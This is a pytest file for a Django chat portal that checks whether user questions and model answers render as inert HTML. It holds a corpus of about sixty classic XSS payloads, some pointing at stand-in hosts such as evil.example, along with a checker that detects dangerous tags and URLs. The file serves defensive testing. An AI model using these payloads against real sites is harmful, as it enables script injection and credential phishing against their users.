"""Nothing a user or a model writes runs in the page.

A corpus of classic XSS payloads goes in as questions and as answers: through the Markdown
renderer, through the pages, through the real worker (the FastGPT double echoes the question
into its answer) and through the answer stream, whose `delta` events htmx appends as HTML."""

from __future__ import annotations

import html
import re
import threading
from html.parser import HTMLParser

import pytest
from django.db import connection

from fastgpt_portal.chat import relay
from fastgpt_portal.chat.models import Conversation, Turn
from fastgpt_portal.lib.markdown import render
from tests.conftest import finished, read_events, session_cookie, wait_until

# (name, payload). Every one must come out inert, whether it is a question or an answer.
PAYLOADS: list[tuple[str, str]] = [
    # script tags
    ("script", "<script>alert(1)</script>"),
    ("script-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-after-quote", '"><script>alert(1)</script>'),
    ("script-after-textarea", "</textarea><script>alert(1)</script>"),
    ("script-slash", "<script/x>alert(1)</script>"),
    # event handlers
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("svg-onload", "<svg/onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover me</div>'),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("a-onclick", '<a href="https://example.org" onclick="alert(1)">x</a>'),
    # javascript:, data: and vbscript: in Markdown links and images
    ("md-link-js", "[click](javascript:alert(1))"),
    ("md-link-js-case", "[click](JaVaScRiPt:alert(1))"),
    ("md-link-js-angle-tab", "[click](<java\tscript:alert(1)>)"),
    ("md-link-js-colon-entity", "[click](javascript&#58;alert(1))"),
    ("md-link-js-letter-entity", "[click](&#106;avascript:alert(1))"),
    ("md-link-js-hex-entities", "[click](&#x6A;&#x61;&#x76;&#x61;script:alert(1))"),
    ("md-link-data", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-vbscript", "[click](vbscript:msgbox(1))"),
    ("md-image-js", "![pic](javascript:alert(1))"),
    ("md-image-data-svg", "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("md-image-data-png", "![pic](data:image/png;base64,iVBORw0KGgo=)"),
    ("md-link-title-breakout", '[x](https://example.org "t\\" onmouseover=\\"alert(1)")'),
    ("md-image-src-breakout", '![x](https://example.org/a.png" onerror="alert(1))'),
    # SVG, frames, objects
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-js", '<object data="javascript:alert(1)"></object>'),
    ("embed-data", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    # style and expression()
    ("style-tag", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("link-stylesheet", "<link rel=stylesheet href=//evil.example/x.css>"),
    # forms
    ("form-phish", '<form action="https://evil.example"><input name=password></form>'),
    ("button-formaction", "<button formaction=javascript:alert(1)>x</button>"),
    # HTML entity tricks
    ("entities-named", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("entities-decimal", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("entities-in-href", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;cript:alert(1)">x</a>'),
    # Markdown autolinks
    ("autolink-js", "<javascript:alert(1)>"),
    ("autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("bare-url-breakout", 'https://example.org/"><script>alert(1)</script>'),
    # reference links
    ("reference-link-js", "[click][evil]\n\n[evil]: javascript:alert(1)"),
    ("reference-image-data", "![pic][evil]\n\n[evil]: data:text/html,alert(1)"),
    ("reference-title-breakout", '[x][r]\n\n[r]: https://example.org "a" onclick="alert(1)"'),
    # code fences
    ("nested-fences", "````\n```\n<script>alert(1)</script>\n```\n````"),
    ("fence-html", "```html\n<script>alert(1)</script>\n```"),
    ("fence-info-breakout", '```"><script>alert(1)</script>\ncode\n```'),
    ("inline-code", "`<script>alert(1)</script>`"),
    ("unclosed-fence", "```\n<img src=x onerror=alert(1)>"),
    # unicode tricks
    ("zero-width-scheme", "[click](java\u200bscript:alert(1))"),
    ("rtl-override", "[click](\u202ejavascript:alert(1))"),
    ("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    (
        "fullwidth-scheme",
        "[click](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))",
    ),
    ("nul-in-tag", "<scr\x00ipt>alert(1)</script>"),
    ("newline-in-scheme", "<a href='java\nscript:alert(1)'>x</a>"),
    # htmx and template injection: attributes htmx would obey, tags Django would evaluate
    ("htmx-attrs", '<div hx-get="/chat/send" hx-trigger="load">x</div>'),
    ("htmx-sse", '<div hx-ext="sse" sse-connect="/chat/turns/1/events">x</div>'),
    ("template-tags", "{% csrf_token %}{{ request.META }}{% debug %}"),
    ("base-tag", '<base href="https://evil.example/">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
]

# PostgreSQL cannot store NUL characters; the form refuses them in questions (tested below).
STORABLE = [(name, payload) for name, payload in PAYLOADS if "\x00" not in payload]

# What the sanitised Markdown may contain: anything else in a question or answer is a failure.
ALLOWED_TAGS = {
    "p", "br", "hr", "strong", "em", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li",
    "h1", "h2", "h3", "h4", "h5", "h6", "a", "table", "thead", "tbody", "tr", "th", "td", "span",
    "img",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title"},
    "code": {"class"},
    "span": {"class"},
    "ol": {"start"},
}
BANNED_RAW = ("<script", "<iframe", "<object", "<embed", "<svg", "<style", "<form", "<input")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "data"}
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
        "track", "wbr"}  # fmt: skip
# Elements whose *content* is a question or an answer (the elements themselves are ours).
REGION_CLASSES = {"text", "answer-text", "stream"}


def dangerous_url(value: str) -> bool:
    # As a browser reads it: tabs and newlines removed, leading/trailing controls and spaces
    # stripped, the scheme compared without regard to case.
    value = re.sub(r"[\t\n\r]", "", value).strip(
        "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b"
        "\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16"
        "\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f "
    )
    scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", value)
    return bool(scheme) and scheme.group(1).lower() in {"javascript", "data", "vbscript"}


class Inspector(HTMLParser):
    """Every element of a page, and whether it sits inside a question or an answer."""

    def __init__(self, whole_fragment: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 1 if whole_fragment else 0  # > 0: inside user or model content
        self.stack: list[bool] = []
        self.elements: list[tuple[str, list[tuple[str, str | None]], bool]] = []

    def handle_starttag(self, tag, attrs):
        inside = self.depth > 0
        self.elements.append((tag, attrs, inside))
        if tag in VOID:
            return
        classes = set((dict(attrs).get("class") or "").split())
        opens_region = not inside and bool(classes & REGION_CLASSES)
        self.stack.append(opens_region)
        self.depth += opens_region

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs, self.depth > 0))

    def handle_endtag(self, tag):
        if tag in VOID or not self.stack:
            return
        self.depth -= self.stack.pop()


def problems_in(markup: str, *, whole_fragment: bool) -> list[str]:
    """What in `markup` could run: checked for every element of user or model content, and for
    scripts, handlers and dangerous URLs anywhere on the page."""
    inspector = Inspector(whole_fragment)
    inspector.feed(markup)
    inspector.close()
    found = []
    for tag, attrs, inside in inspector.elements:
        names = {name for name, _ in attrs}
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                found.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and value and dangerous_url(value):
                found.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and not dict(attrs).get("src", "").startswith("/static/"):
            found.append("<script> that is not ours")
        if tag in ("iframe", "object", "embed", "svg", "math", "base", "frame", "applet"):
            found.append(f"<{tag}>")
        if inside:
            if tag not in ALLOWED_TAGS:
                found.append(f"<{tag}> inside a question or answer")
            extra = names - ALLOWED_ATTRIBUTES.get(tag, set())
            if extra:
                found.append(f"<{tag} {sorted(extra)}> inside a question or answer")
    return found


def assert_inert(markup: str, where: str, *, whole_fragment: bool = False) -> None:
    problems = problems_in(markup, whole_fragment=whole_fragment)
    assert problems == [], f"{where}: {problems}"


def assert_raw_clean(fragment: str, where: str) -> None:
    lowered = fragment.lower()
    for needle in BANNED_RAW:
        assert needle not in lowered, f"{where}: {needle} in {fragment[:300]!r}"


def turns_section(page: str) -> str:
    start = page.index('<section class="turns"')
    return page[start : page.index("</section>", start)]


# ---------------------------------------------------------------------------- the checker


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 40
    assert len({name for name, _ in PAYLOADS}) == len(PAYLOADS)


@pytest.mark.parametrize(
    "unsafe",
    [
        '<p><img src="x" onerror="alert(1)"></p>',
        '<a href=" javascript:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<img src="data:image/svg+xml,x">',
        '<p style="color:red">x</p>',
        "<form><input></form>",
        '<div hx-get="/x">x</div>',
        "<script>alert(1)</script>",
    ],
)
def test_the_checker_catches_what_it_must(unsafe):
    assert problems_in(unsafe, whole_fragment=True), unsafe


# ---------------------------------------------------------------------------- the renderer


@pytest.mark.parametrize(("name", "payload"), PAYLOADS, ids=[n for n, _ in PAYLOADS])
def test_an_answer_renders_to_inert_html(name, payload):
    rendered = render(payload)
    assert_raw_clean(rendered, name)
    assert_inert(rendered, name, whole_fragment=True)


def test_the_whole_corpus_as_one_answer_is_inert():
    # Together, so that one payload's unclosed construct meets the next one's.
    rendered = render("\n\n".join(p for _, p in PAYLOADS))
    assert_raw_clean(rendered, "the corpus")
    assert_inert(rendered, "the corpus", whole_fragment=True)


# ---------------------------------------------------------------------------- the pages


@pytest.mark.django_db
def test_questions_and_answers_are_inert_on_every_page(client, alice, demo_app):
    client.force_login(alice)
    for name, payload in STORABLE:
        conversation = Conversation.objects.create(user=alice, app=demo_app, title=payload[:80])
        Turn.objects.create(
            conversation=conversation, user=alice, question=payload, answer=payload,
            reasoning=payload, status=Turn.Status.DONE,
        )  # fmt: skip
        Turn.objects.create(
            conversation=conversation, user=alice, question=payload, answer=payload,
            error=payload, status=Turn.Status.FAILED,
        )  # fmt: skip
        page = client.get(f"/c/{conversation.pk}/").text
        assert_inert(page, f"{name}: the conversation page")
        assert_raw_clean(turns_section(page), f"{name}: the turns")
        assert html.escape(conversation.title) in page, "the title is shown as text"
        partial = client.get(
            f"/chat/turns/{conversation.turns.first().pk}/", HTTP_HX_REQUEST="true"
        )
        assert_inert(partial.text, f"{name}: the turn partial")
    history = client.get("/history/").text
    assert_inert(history, "the history page")
    search = client.get("/history/", {"q": "<script>alert(1)</script>"}).text
    assert_inert(search, "a history search for a payload")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in search


@pytest.mark.django_db
def test_a_payload_question_is_stored_as_typed_and_shown_as_text(client, alice, demo_app):
    client.force_login(alice)
    for name, payload in PAYLOADS:
        response = client.post(
            "/chat/send", {"text": payload, "app": demo_app.slug}, HTTP_HX_REQUEST="true"
        )
        if "\x00" in payload:
            assert response.status_code == 422, "null characters are refused, clearly"
            continue
        assert response.status_code == 200, (name, response.content[:300])
        assert_inert(response.text, f"{name}: the Send response")
        turn = Turn.objects.latest("pk")
        assert turn.question == payload.strip()


# ---------------------------------------------------------------------------- the real path


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_answers_echoing_the_payloads_through_the_worker_are_inert(
    client, alice, demo_app, fastgpt, worker
):
    """The double answers "You asked: <question>…" in Markdown: each payload comes back as a
    model's answer through the real worker, is stored, and is rendered on the page."""
    client.force_login(alice)
    sent = []
    for name, payload in STORABLE:
        response = client.post("/chat/send", {"text": payload, "app": demo_app.slug})
        assert response.status_code == 302
        sent.append((name, Turn.objects.latest("pk").pk))
    for name, pk in sent:
        turn = wait_until(lambda pk=pk: finished(pk), timeout=60, message=f"{name}: no answer")
        assert turn.status == Turn.Status.DONE, (name, turn.error)
        assert turn.answer.startswith("You asked:"), "the payload came back as the answer"
        page = client.get(f"/c/{turn.conversation_id}/").text
        assert_inert(page, f"{name}: the answered conversation page")
        assert_raw_clean(turns_section(page), f"{name}: the answered turn")


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_stream_events_carry_payloads_as_escaped_text(alice, demo_app, portal_server):
    """Whatever FastGPT streams (answer text, reasoning, a node's name), the SSE view sends it
    HTML-escaped: htmx appends `delta` with beforeend, so it must arrive as inert text."""
    conversation = Conversation.objects.create(user=alice, app=demo_app, title="Stream")
    turn = Turn.objects.create(
        conversation=conversation, user=alice, question="q", status=Turn.Status.RUNNING
    )
    publisher = relay.Publisher(turn.pk, turn.data_id)
    entries = []
    for _, payload in STORABLE:
        entries += [("status", payload), ("reasoning", payload), ("delta", payload)]
    publisher.publish(entries)
    answer = "".join(p for _, p in STORABLE)

    def finish() -> None:
        # As the worker does at the end: the final state in the database, then `done`.
        Turn.objects.filter(pk=turn.pk).update(status=Turn.Status.DONE, answer=answer)
        relay.publish_done(turn.pk, turn.data_id)
        connection.close()

    # The reader connects while the turn is running (a finished turn is served from the
    # database without its events); the turn finishes while it reads.
    finisher = threading.Timer(1.0, finish)
    finisher.start()
    events = read_events(f"{portal_server.url}/chat/turns/{turn.pk}/events", session_cookie(alice))
    finisher.join()
    by_kind: dict[str, list[str]] = {}
    for event in events:
        by_kind.setdefault(event["event"], []).append(event["data"])
    for kind in ("status", "reasoning", "delta"):
        for data in by_kind[kind]:
            assert "<" not in data and ">" not in data, f"{kind}: {data[:200]!r}"
            assert_inert(data, f"a {kind} event", whole_fragment=True)
    streamed = html.unescape("".join(by_kind["delta"]))
    assert streamed == answer.replace("\r\n", "\n").replace("\r", "\n"), "nothing lost"
    [done] = by_kind["done"]
    assert_inert(done, "the done event's HTML")
    assert_raw_clean(done.split('<div class="answer-text markdown">', 1)[1], "the done answer")


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_a_live_answer_streamed_by_the_worker_stays_text(
    client, alice, demo_app, fastgpt, worker, portal_server
):
    """End to end while it streams: the double paces its echo of a question full of payloads,
    the browser-side reader sees the deltas as they come."""
    question = "\n\n".join(p for _, p in STORABLE)
    fastgpt.token_rate = 400
    try:
        client.force_login(alice)
        response = client.post("/chat/send", {"text": question, "app": demo_app.slug})
        assert response.status_code == 302
        turn = Turn.objects.latest("pk")
        events = read_events(
            f"{portal_server.url}/chat/turns/{turn.pk}/events", session_cookie(alice)
        )
    finally:
        fastgpt.token_rate = 0
    deltas = [e["data"] for e in events if e["event"] == "delta"]
    assert len(deltas) > 1, "the answer was read while it streamed"
    for data in deltas:
        assert "<" not in data and ">" not in data
    turn.refresh_from_db()
    assert turn.status == Turn.Status.DONE
    assert html.unescape("".join(deltas)) == turn.answer
    assert_inert(events[-1]["data"], "the finished turn")
